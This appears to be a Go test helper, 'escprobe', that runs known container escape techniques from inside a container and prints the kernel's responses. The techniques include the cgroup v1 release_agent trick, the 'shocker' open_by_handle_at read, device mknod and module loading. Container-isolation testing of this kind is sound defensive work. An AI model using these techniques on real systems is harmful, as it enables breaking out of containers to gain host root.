// Command escprobe is the attacker of the escape suite (tests/escape_test.go):
// root inside a container runs it to try one known escape technique and it
// prints what the kernel answered, one "key=value" per line. It never
// decides whether an escape worked: the test judges from the host. The
// test also runs some operations on the host, as controls (the same call
// without the container around it succeeds, so the probe can tell) and to
// set up (a keyring, a packet sniffer in the test's own namespace).
//
// It is built statically (CGO_ENABLED=0) and linked at a high address
// (-ldflags=-T) so that it can also be loaded as the ELF interpreter of a
// host binary, the CVE-2019-5736 pattern: see interp.
//
//	escprobe OP [ARG...]
package main

import (
	"bufio"
	"errors"
	"fmt"
	"os"
	"strconv"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// interpArg0 is argv[0] when the kernel loaded us as the ELF interpreter of
// a program run through a "#!/proc/self/exe" script: binfmt_script puts
// the interpreter's name first.
const interpArg0 = "/proc/self/exe"

func main() {
	if len(os.Args) > 0 && os.Args[0] == interpArg0 {
		interp()
		return
	}
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: escprobe OP [ARG...]")
		os.Exit(2)
	}
	op, args := os.Args[1], os.Args[2:]
	f, ok := ops[op]
	if !ok {
		fmt.Fprintln(os.Stderr, "escprobe: unknown op", op)
		os.Exit(2)
	}
	f(args)
}

var ops = map[string]func([]string){}

func init() {
	for k, v := range map[string]func([]string){
		"open": opOpen, "writeback": opWriteback, "mknod": opMknod,
		"initmod": opInitMod, "loopctl": opLoopCtl, "cgv1": opCgV1,
		"cgmove": opCgMove, "mount": opMount, "umount": opUmount,
		"handle": opHandle, "ptracejoin": opPtraceJoin, "fds": opFds,
		"tiocsti": opTIOCSTI, "abstract": opAbstract, "swapon": opSwapon,
		"clock": opClock, "reboot": opReboot, "link": opLink,
		"ns": opNS, "find": opFind, "kill": opKill, "netns": opNetNS,
		"privapis": opPrivAPIs, "keyhost": opKeyHost, "keyread": opKeyRead,
		"chroot": opChroot, "udpsend": opUDPSend, "arp": opARP,
		"ndp": opNDP, "sniff": opSniff, "whoami": opWhoami,
		"overwrite": opOverwrite, "kmsg": opKmsg,
	} {
		ops[k] = v
	}
}

// errName is the errno's symbolic name ("EPERM"), "ok" for nil.
func errName(err error) string {
	if err == nil {
		return "ok"
	}
	var e syscall.Errno
	if errors.As(err, &e) {
		if n := unix.ErrnoName(e); n != "" {
			return n
		}
		return strconv.Itoa(int(e))
	}
	return strings.ReplaceAll(err.Error(), " ", "_")
}

func say(k string, v any) { fmt.Printf("%s=%v\n", k, v) }

func atoi(s string) int {
	n, err := strconv.Atoi(s)
	if err != nil {
		fmt.Fprintln(os.Stderr, "escprobe: not a number:", s)
		os.Exit(2)
	}
	return n
}

// opOpen: open PATH MODE (r, w) without O_CREAT or O_TRUNC, and for r read
// up to 64 bytes; nothing is written.
func opOpen(a []string) {
	for _, p := range a[1:] {
		flags := unix.O_RDONLY
		if a[0] == "w" {
			flags = unix.O_WRONLY
		}
		fd, err := unix.Open(p, flags|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
		res := errName(err)
		if err == nil {
			if a[0] == "r" {
				buf := make([]byte, 64)
				n, rerr := unix.Read(fd, buf)
				res = fmt.Sprintf("ok,read=%d,%s", n, errName(rerr))
			}
			unix.Close(fd)
		}
		say(p, res)
	}
}

// opWriteback: read each PATH and write the same bytes back, so that a
// write the kernel accepts changes nothing.
func opWriteback(a []string) {
	for _, p := range a {
		old, err := os.ReadFile(p)
		if err != nil {
			say(p, "read:"+errName(err))
			continue
		}
		fd, err := unix.Open(p, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			say(p, "open:"+errName(err))
			continue
		}
		n, err := unix.Write(fd, old)
		unix.Close(fd)
		say(p, fmt.Sprintf("write:%s,n=%d", errName(err), n))
	}
}

// opMknod: mknod PATH c|b MAJOR MINOR, then open it read-only and read.
func opMknod(a []string) {
	mode := uint32(unix.S_IFCHR)
	if a[1] == "b" {
		mode = unix.S_IFBLK
	}
	err := unix.Mknod(a[0], mode|0o600, int(unix.Mkdev(uint32(atoi(a[2])), uint32(atoi(a[3])))))
	say("mknod", errName(err))
	fd, err := unix.Open(a[0], unix.O_RDONLY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
	say("open", errName(err))
	if err == nil {
		n, rerr := unix.Read(fd, make([]byte, 512))
		say("read", fmt.Sprintf("%d,%s", n, errName(rerr)))
		unix.Close(fd)
	}
	unix.Unlink(a[0])
}

// opInitMod: init_module and finit_module with an image that is no module:
// EPERM means refused before the kernel looked at it; any other answer
// means the caller may load modules.
func opInitMod(a []string) {
	img := []byte("\x7fELF not a module")
	_, _, e := unix.Syscall(unix.SYS_INIT_MODULE, uintptr(ptr(img)), uintptr(len(img)), uintptr(ptr([]byte{0})))
	say("init_module", errName(errno(e)))
	f, err := os.CreateTemp("", "mod")
	if err != nil {
		say("finit_module", errName(err))
		return
	}
	f.Write(img)
	defer os.Remove(f.Name())
	_, _, e = unix.Syscall(unix.SYS_FINIT_MODULE, f.Fd(), uintptr(ptr([]byte{0})), 0)
	say("finit_module", errName(errno(e)))
	f.Close()
}

func errno(e syscall.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

// opLoopCtl: open /dev/loop-control (and a node made for it) and ask for a
// free loop device.
func opLoopCtl(a []string) {
	for _, p := range []string{"/dev/loop-control", "/tmp/esc-loopctl"} {
		if p == "/tmp/esc-loopctl" {
			say("mknod", errName(unix.Mknod(p, unix.S_IFCHR|0o600, int(unix.Mkdev(10, 237)))))
			defer unix.Unlink(p)
		}
		fd, err := unix.Open(p, unix.O_RDWR|unix.O_CLOEXEC, 0)
		if err != nil {
			say(p, "open:"+errName(err))
			continue
		}
		n, err := unix.IoctlRetInt(fd, unix.LOOP_CTL_GET_FREE)
		say(p, fmt.Sprintf("get_free:%s,n=%d", errName(err), n))
		unix.Close(fd)
	}
}

// opCgV1: mount a cgroup v1 hierarchy (named, then each controller), set
// its release_agent to the host path a[0] and make a child group release
// (the kernel runs the agent as host root in the host's namespaces).
func opCgV1(a []string) {
	dir := "/tmp/esc-cg"
	os.MkdirAll(dir, 0o755)
	mounted := ""
	for _, opt := range []string{"none,name=govzesc", "rdma", "memory", "pids", "cpuset", "freezer", "devices"} {
		err := unix.Mount("cgroup", dir, "cgroup", 0, opt)
		say("mount_"+opt, errName(err))
		if err == nil {
			mounted = opt
			break
		}
	}
	if mounted == "" {
		// The container's own view: a writable release_agent there is
		// the same hole.
		for _, p := range []string{"/sys/fs/cgroup/systemd/release_agent", "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/release_agent"} {
			say("write_"+p, errName(os.WriteFile(p, []byte(a[0]), 0)))
		}
		return
	}
	defer unix.Unmount(dir, unix.MNT_DETACH)
	say("release_agent", errName(os.WriteFile(dir+"/release_agent", []byte(a[0]), 0)))
	child := dir + "/esc"
	say("mkdir", errName(os.Mkdir(child, 0o755)))
	say("notify_on_release", errName(os.WriteFile(child+"/notify_on_release", []byte("1"), 0)))
	// A short-lived child joins the group and exits: the group empties.
	p, err := os.StartProcess("/proc/self/exe", []string{"escprobe", "whoami"}, &os.ProcAttr{})
	if err == nil {
		say("procs", errName(os.WriteFile(child+"/cgroup.procs", []byte(strconv.Itoa(p.Pid)), 0)))
		p.Wait()
	}
	os.Remove(child)
}

// opCgMove: try to move this process out of the container's cgroup
// (its ancestors' cgroup.procs, through every path and a fresh cgroup2
// mount), print where it ended, then wait for stdin to close so the test
// can check from the host.
func opCgMove(a []string) {
	targets := []string{"/sys/fs/cgroup/../cgroup.procs", "/sys/fs/cgroup/unified/../cgroup.procs"}
	ents, _ := os.ReadDir("/sys/fs/cgroup")
	for _, e := range ents {
		targets = append(targets, "/sys/fs/cgroup/"+e.Name()+"/../../cgroup.procs")
	}
	os.MkdirAll("/tmp/esc-cg2", 0o755)
	err := unix.Mount("cgroup2", "/tmp/esc-cg2", "cgroup2", 0, "")
	say("mount_cgroup2", errName(err))
	if err == nil {
		defer unix.Unmount("/tmp/esc-cg2", unix.MNT_DETACH)
		targets = append(targets, "/tmp/esc-cg2/cgroup.procs", "/tmp/esc-cg2/../cgroup.procs")
	}
	// The cgroups named in /proc/self/cgroup are relative to the
	// namespace's root: an absolute parent path from there.
	for _, p := range targets {
		say("write_"+p, errName(os.WriteFile(p, []byte("0"), 0)))
	}
	b, _ := os.ReadFile("/proc/self/cgroup")
	say("self_cgroup", strings.ReplaceAll(strings.TrimSpace(string(b)), "\n", ";"))
	say("pid", os.Getpid())
	fmt.Println("HOLD")
	bufio.NewReader(os.Stdin).ReadString('\n')
}

// opMount: mount FSTYPE SOURCE TARGET [DATA].
func opMount(a []string) {
	os.MkdirAll(a[2], 0o755)
	data := ""
	if len(a) > 3 {
		data = a[3]
	}
	say("mount", errName(unix.Mount(a[1], a[2], a[0], 0, data)))
}

// opUmount: umount2 each path, then lazily.
func opUmount(a []string) {
	for _, p := range a {
		err := unix.Unmount(p, 0)
		if err != nil {
			err = unix.Unmount(p, unix.MNT_DETACH)
		}
		say(p, errName(err))
	}
}

// opHandle: handle MOUNTPATH TYPE HEX: open_by_handle_at(MOUNTPATH's fd,
// handle) and read what it opened: the "shocker" escape with a handle the
// test computed on the host for its marker file.
func opHandle(a []string) {
	mfd, err := unix.Open(a[0], unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		say("open_mount", errName(err))
		return
	}
	var raw []byte
	fmt.Sscanf(a[2], "%x", &raw)
	h := unix.NewFileHandle(int32(atoi(a[1])), raw)
	fd, err := unix.OpenByHandleAt(mfd, h, unix.O_RDONLY)
	say("open_by_handle_at", errName(err))
	if err == nil {
		buf := make([]byte, 128)
		n, _ := unix.Read(fd, buf)
		say("content", strings.TrimSpace(string(buf[:n])))
	}
	// Also the way shocker found the root: a handle of "/" itself.
	_, _, err = unix.NameToHandleAt(unix.AT_FDCWD, "/", 0)
	say("name_to_handle_at_root", errName(err))
}

func ptr(b []byte) unsafe.Pointer { return unsafe.Pointer(&b[0]) }
